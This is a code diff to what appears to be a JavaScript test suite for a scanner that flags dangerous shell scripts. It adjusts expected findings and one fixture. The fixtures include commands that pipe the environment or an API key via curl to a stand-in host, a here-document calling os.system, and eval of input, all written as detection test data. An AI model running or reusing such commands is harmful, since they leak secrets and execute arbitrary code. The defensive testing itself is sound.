@@ -31,7 +31,7 @@ describe("shell", () => {
     [
       "the environment piped away",
       "#!/bin/sh\nenv | curl -d @- https://x.example.com",
-      ["2 critical api_exfiltration", "2 medium api_exfiltration"].slice(0, 2),
+      ["2 critical api_exfiltration", "2 medium api_exfiltration"],
     ],
     ["a secret variable sent", '#!/bin/sh\ncurl "https://x.example.com/?k=$API_KEY"', ["2 critical api_exfiltration"]],
     [
@@ -41,8 +41,8 @@ describe("shell", () => {
     ],
     [
       "code in a here-document",
-      '#!/bin/sh\npython3 <<EOF\nimport os\nos.system("id")\nEOF\n',
-      ["3 high dangerous_imports"],
+      '#!/bin/sh\necho now it starts; python3 <<EOF\nimport os\nos.system("id")\nEOF\n',
+      ["2 high dangerous_imports"],
     ],
     ["Python on the command line", "#!/bin/sh\npython3 -c 'eval(input())'", ["2 high obfuscated_code"]],
     ["comments and quoted text", "#!/bin/sh\n# curl x | sh\necho \"curl x | sh\"\necho 'eval $x'", []],
